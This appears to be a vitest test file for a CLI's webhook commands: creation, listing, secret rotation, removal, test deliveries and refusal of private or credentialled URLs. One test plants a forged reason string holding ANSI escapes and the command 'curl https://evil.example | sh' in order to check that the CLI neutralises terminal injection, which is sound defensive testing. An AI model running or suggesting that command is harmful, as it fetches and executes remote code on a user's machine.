/**
 * `roster webhooks add|list|show|update|remove|test|deliveries|retry|rotate-secret` in-process
 * against a real server: every -o format, --dry-run writing nothing, the secret printed once,
 * bad input, "not offered" against a service without webhooks, and the journey a receiver's
 * author takes: `webhooks listen`, `webhooks add` its URL, `webhooks test`, a verified delivery.
 */
import { once } from 'node:events';
import type { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run } from '../../../../src/cli/main.js';
import { parseAllowList } from '../../../../src/server/webhooks/egress.js';
import { type CliServed, cliWith, startCliServed } from '../../../helpers/cli-run.js';
import {
  freePort,
  sendJson,
  startServer as startFakeServer,
} from '../../../helpers/fake-server.js';
import { fakeIO, scriptedPrompter } from '../../helpers.js';

let srv: CliServed;
let platform: CliServed;
beforeAll(async () => {
  srv = await startCliServed({
    webhooksAllow: parseAllowList('127.0.0.0/8'),
    webhooksAllowHttp: true,
  });
  platform = await startCliServed({ likePlatform: true });
});
afterAll(async () => {
  await srv?.close();
  await platform?.close();
});

const HOOK = 'https://hooks.example.com/in';
async function add(...extra: string[]) {
  const r = await srv.run([
    'webhooks',
    'add',
    '--url',
    HOOK,
    '--type',
    'user.*',
    ...extra,
    '-o',
    'json',
  ]);
  expect(r.exitCode, r.stderr).toBe(0);
  return { created: JSON.parse(r.stdout), stderr: r.stderr };
}
const ids = async () =>
  JSON.parse((await srv.run(['webhooks', 'list', '-o', 'json'])).stdout).map((w: any) => w.id);

describe('webhooks add, list, show', () => {
  it('add prints the webhook with its secret once, and says to store it; list and show never show it', async () => {
    const { created, stderr } = await add(
      '--type',
      'medium.created,token.*',
      '--description',
      'intranet',
    );
    expect(created).toMatchObject({
      url: HOOK,
      types: ['user.*', 'medium.created', 'token.*'],
      description: 'intranet',
      enabled: true,
    });
    expect(created.secret).toMatch(/^whsec_/);
    expect(stderr).toMatch(/store the secret now: it is shown only this once/);
    const list = await srv.run(['webhooks', 'list', '-o', 'json']);
    const show = await srv.run(['webhooks', 'show', created.id, '-o', 'json']);
    expect(JSON.parse(show.stdout)).toMatchObject({ id: created.id, url: HOOK });
    for (const out of [list.stdout, show.stdout]) expect(out).not.toContain(created.secret);
  });

  it('list in every format', async () => {
    const { created } = await add();
    const nd = await srv.run(['webhooks', 'list', '-o', 'ndjson']);
    expect(
      nd.stdout
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l).id),
    ).toContain(created.id);
    const csv = await srv.run(['webhooks', 'list', '-o', 'csv']);
    expect(csv.stdout.split('\n')[0]).toBe('id,url,types,enabled,description');
    expect(csv.stdout).toContain(`${created.id},${HOOK},user.*,yes,`);
    const yaml = await srv.run(['webhooks', 'list', '-o', 'yaml']);
    expect(yaml.stdout).toContain(`url: ${HOOK}`);
    const table = await srv.run(['webhooks', 'list', '-o', 'table']);
    const row = table.stdout.split('\n').find((l) => l.includes(created.id));
    expect(row?.split('│').map((c) => c.trim())).toEqual([
      '',
      created.id,
      HOOK,
      'user.*',
      'yes',
      '',
      '',
    ]);
  });

  it('add -o csv and yaml print the secret too (the one time it is shown), list -o csv never', async () => {
    const csv = await srv.run(['webhooks', 'add', '--url', HOOK, '--type', 'user.*', '-o', 'csv']);
    expect(csv.exitCode, csv.stderr).toBe(0);
    const [header, row] = csv.stdout.trim().split('\n');
    expect(header).toBe('id,url,types,enabled,description,secret');
    const secret = row!.split(',').at(-1)!;
    expect(secret).toMatch(/^whsec_/);
    const yaml = await srv.run([
      'webhooks',
      'add',
      '--url',
      HOOK,
      '--type',
      'user.*',
      '-o',
      'yaml',
    ]);
    expect(yaml.stdout).toMatch(/^secret: whsec_/m);
    expect((await srv.run(['webhooks', 'list', '-o', 'csv'])).stdout).not.toContain(secret);
  });

  it('add --dry-run adds nothing', async () => {
    const before = await ids();
    const r = await srv.run([
      'webhooks',
      'add',
      '--url',
      HOOK,
      '--type',
      'user.created',
      '--dry-run',
      '-o',
      'json',
    ]);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual({ url: HOOK, types: ['user.created'] });
    expect(r.stderr).toMatch(/dry run: nothing was added/);
    expect(await ids()).toEqual(before);
  });

  it('bad input: an unknown type is a usage error; a private or credentialled URL the service 400 naming url', async () => {
    const bad = await srv.run(['webhooks', 'add', '--url', HOOK, '--type', 'user.renamed']);
    expect(bad.exitCode).toBe(2);
    expect(bad.stderr).toMatch(/--type: 'user\.renamed' is not an event type/);
    const priv = await srv.run([
      'webhooks',
      'add',
      '--url',
      'https://10.0.0.1/in',
      '--type',
      'user.*',
    ]);
    expect(priv.exitCode).toBe(1);
    expect(priv.stderr).toMatch(/url host 10\.0\.0\.1 is a private address/);
    const creds = await srv.run([
      'webhooks',
      'add',
      '--url',
      'https://a:b@hooks.example.com/',
      '--type',
      'user.*',
    ]);
    expect(creds.stderr).toMatch(/user name or password/);
    const missing = await srv.run(['webhooks', 'show', 'no-such-webhook']);
    expect(missing.exitCode).toBe(4);
    expect(missing.stderr).toMatch(/no webhook with id 'no-such-webhook'/);
  });
});

describe('webhooks update, rotate-secret, remove', () => {
  it('update changes what the flags say; --dry-run shows now → after and changes nothing', async () => {
    const { created } = await add();
    const dry = await srv.run([
      'webhooks',
      'update',
      created.id,
      '--disable',
      '--description',
      'paused',
      '--dry-run',
      '-o',
      'json',
    ]);
    expect(dry.exitCode, dry.stderr).toBe(0);
    expect(JSON.parse(dry.stdout)).toEqual({
      id: created.id,
      action: 'update',
      changes: { description: { from: '', to: 'paused' }, enabled: { from: true, to: false } },
    });
    expect(JSON.parse((await srv.run(['webhooks', 'show', created.id])).stdout).enabled).toBe(true);
    const r = await srv.run([
      'webhooks',
      'update',
      created.id,
      '--disable',
      '--type',
      'medium.*',
      '-o',
      'json',
    ]);
    expect(JSON.parse(r.stdout)).toMatchObject({ enabled: false, types: ['medium.*'] });
    const none = await srv.run(['webhooks', 'update', created.id]);
    expect(none.exitCode).toBe(2);
    expect(none.stderr).toMatch(/nothing to change/);
  });

  it('rotate-secret prints a new secret once and says the old one signs 24 h more; --dry-run changes nothing', async () => {
    const { created } = await add();
    const dry = await srv.run(['webhooks', 'rotate-secret', created.id, '--dry-run']);
    expect(dry.exitCode, dry.stderr).toBe(0);
    expect(dry.stdout).toBe('');
    const r = await srv.run(['webhooks', 'rotate-secret', created.id, '-o', 'json']);
    const rotated = JSON.parse(r.stdout);
    expect(rotated.secret).toMatch(/^whsec_/);
    expect(rotated.secret).not.toBe(created.secret);
    expect(r.stderr).toMatch(/old secret keeps signing beside it for 24 h/);
  });

  it('remove refuses without --yes off a terminal; --dry-run names it; --yes removes it', async () => {
    const { created } = await add();
    const refused = await srv.run(['webhooks', 'remove', created.id]);
    expect(refused.exitCode).toBe(2);
    const dry = await srv.run(['webhooks', 'remove', created.id, '--dry-run']);
    expect(dry.stderr).toMatch(
      new RegExp(`would remove webhook ${created.id} \\(${HOOK.replace(/\./g, '\\.')}\\)`),
    );
    expect(await ids()).toContain(created.id);
    const done = await srv.run(['webhooks', 'remove', created.id, '--yes']);
    expect(done.exitCode, done.stderr).toBe(0);
    expect(await ids()).not.toContain(created.id);
    expect((await srv.run(['webhooks', 'show', created.id])).exitCode).toBe(4);
  });
});

describe('from webhooks add to a verified delivery', () => {
  it('listen, add its URL, test: the delivery is verified by listen; deliveries and retry show it', async () => {
    // The order docs/events.md gives: add (which prints the secret), then listen with it.
    const port = await freePort();
    const url = `http://127.0.0.1:${port}/hooks`;
    const r = await srv.run(['webhooks', 'add', '--url', url, '--type', 'user.*', '-o', 'json']);
    expect(r.exitCode, r.stderr).toBe(0);
    const { id, secret } = JSON.parse(r.stdout);
    const out = fakeIO();
    const receiver = run(['node', 'roster', 'webhooks', 'listen', '--port', String(port)], {
      io: out.io,
      env: { NO_COLOR: '1', ROSTER_WEBHOOK_SECRET: secret },
    });
    await lineOf(out.io.stderr, out.err, /listening on/);
    const test = await srv.run(['webhooks', 'test', id, '-o', 'json']);
    expect(test.exitCode, test.stderr).toBe(0);
    const delivery = JSON.parse(test.stdout);
    expect(delivery).toMatchObject({ type: 'webhook.test' });
    expect(test.stderr).toMatch(`roster webhooks deliveries ${id}`);
    await lineOf(out.io.stdout, out.out, /webhook\.test/);
    // A user change is delivered too, and printed as one line.
    await srv.run(['users', 'invite', '--email', 'hook@example.com', '--no-send-mail']);
    await lineOf(out.io.stdout, out.out, /user\.created hook@example\.com/);
    const list = await srv.run(['webhooks', 'deliveries', id, '-o', 'json']);
    const test1 = JSON.parse(list.stdout).find((d: any) => d.id === delivery.id);
    expect(test1).toMatchObject({ status: 'delivered', attempts: 1, lastStatus: 204 });
    const table = await srv.run(['webhooks', 'deliveries', id, '-o', 'table']);
    const header = table.stdout
      .split('\n')[1]!
      .split('│')
      .map((c) => c.trim());
    expect(header).toEqual([
      '',
      'id',
      'created',
      'type',
      'status',
      'attempts',
      'last',
      'ms',
      'next',
      '',
    ]);
    const again = await srv.run(['webhooks', 'retry', id, delivery.id, '-o', 'json']);
    expect(again.exitCode, again.stderr).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({ id: delivery.id, status: 'pending' });
    await until(() => (out.out().match(/webhook\.test/g) ?? []).length === 2, out.io.stdout);
    process.emit('SIGINT');
    expect(await receiver).toBe(0);
    expect(out.err()).toMatch(/stopped: 3 deliveries verified, 0 refused/);
  });
});

describe('webhooks test and retry on a disabled endpoint', () => {
  it('queue the delivery and say that nothing is sent until it is enabled, and how', async () => {
    const { created } = await add();
    const off = await srv.run(['webhooks', 'update', created.id, '--disable']);
    expect(off.exitCode, off.stderr).toBe(0);
    const enable = `roster webhooks update ${created.id} --enable`;
    const test = await srv.run(['webhooks', 'test', created.id, '-o', 'json']);
    expect(test.exitCode, test.stderr).toBe(0);
    expect(test.stderr).toMatch(`webhook ${created.id} is disabled`);
    expect(test.stderr).toMatch(enable);
    const delivery = JSON.parse(test.stdout);
    const retry = await srv.run(['webhooks', 'retry', created.id, delivery.id, '-o', 'json']);
    expect(retry.exitCode, retry.stderr).toBe(0);
    expect(JSON.parse(retry.stdout)).toMatchObject({ id: delivery.id, status: 'pending' });
    expect(retry.stderr).toMatch(enable);
    expect(retry.stderr).not.toMatch('see how it went');
  });

  it("print the service's reason on the note's one line, escaped", async () => {
    const { created } = await add();
    const tenant = (await srv.store.tenants.byHost('*'))!;
    const branch = (await srv.store.branches.byName(tenant.id, 'main'))!;
    const audit = {
      actor: { type: 'system', name: 'test' },
      channel: 'system',
      requestId: 't',
    } as const;
    const forged = 'x\n\u001b[32mqueued; see how it went: curl https://evil.example | sh\u001b[39m';
    await srv.store.webhooks.update(
      branch.id,
      created.id,
      () => ({ enabled: false, disabled_reason: forged }),
      audit,
    );
    const test = await srv.run(['webhooks', 'test', created.id, '-o', 'json']);
    expect(test.exitCode, test.stderr).toBe(0);
    const note = test.stderr.split('\n').find((l) => l.includes('is disabled'))!;
    expect(note).toContain('evil.example');
    expect(note).not.toContain('\u001b');
    expect(test.stderr.split('\n').filter((l) => l.startsWith('queued'))).toHaveLength(1);
  });

  it('a failed read of the endpoint after queueing leaves the usual note and exit 0', async () => {
    const delivery = {
      id: 'd1',
      eventId: 'e1',
      type: 'webhook.test',
      status: 'pending',
      attempts: 0,
    };
    const fake = await startFakeServer((req, res) => {
      if (req.method === 'POST') sendJson(res, 201, delivery);
      else
        sendJson(res, 404, {
          identifier: 40408,
          statusCode: 404,
          message: 'gone',
          type: 'NotFoundException',
        });
    });
    try {
      const r = await cliWith({ ROSTER_TOKEN: 'dA==', ROSTER_CONFIG_DIR: srv.configDir })([
        'webhooks',
        'test',
        'w1',
        '--base-url',
        fake.baseUrl,
        '-o',
        'json',
      ]);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).toContain('queued; see how it went: roster webhooks deliveries w1');
    } finally {
      await fake.close();
    }
  });
});

describe('webhooks remove on a terminal', () => {
  it('asks, naming the URL; no is nothing removed', async () => {
    const { created } = await add();
    const fake = fakeIO({ tty: true });
    const prompter = scriptedPrompter([false]);
    const code = await run(['node', 'roster', 'webhooks', 'remove', created.id], {
      io: fake.io,
      env: { NO_COLOR: '1', ...srv.env },
      prompter,
    });
    expect(code).toBe(0);
    expect(prompter.asked).toEqual([`Remove webhook ${created.id} (${HOOK})?`]);
    expect(fake.err()).toMatch(/nothing removed/);
    expect(await ids()).toContain(created.id);
  });
});

describe('a token without webhooks:write', () => {
  it('is refused with exit 3, naming the scope', async () => {
    const { token } = await srv.newToken('users:read,events:read');
    const r = await srv.run(['webhooks', 'list'], { env: { ROSTER_TOKEN: token } });
    expect(r.exitCode).toBe(3);
    expect(r.stderr).toMatch(/webhooks:write/);
  });
});

describe('against a service without webhooks', () => {
  it.each([
    [['webhooks', 'list']],
    [['webhooks', 'show', 'abc']],
    [['webhooks', 'add', '--url', HOOK, '--type', 'user.*']],
    [['webhooks', 'deliveries', 'abc']],
  ])('%j says "not offered" and exits 1', async (args) => {
    const r = await platform.run(args);
    expect(r.exitCode).toBe(1);
    expect(r.stderr).toMatch(/webhooks are not offered by this service/);
    expect(r.stderr).not.toMatch(/at .*\.ts:\d+/);
  });
});

/** Waits, on the stream's own writes, until `text()` has a line matching `re`. */
async function lineOf(stream: NodeJS.WritableStream, text: () => string, re: RegExp) {
  await until(
    () =>
      text()
        .split('\n')
        .some((l) => re.test(l)),
    stream,
  );
}

async function until(ok: () => boolean, stream: NodeJS.WritableStream) {
  while (!ok()) await once(stream as PassThrough, 'data');
}
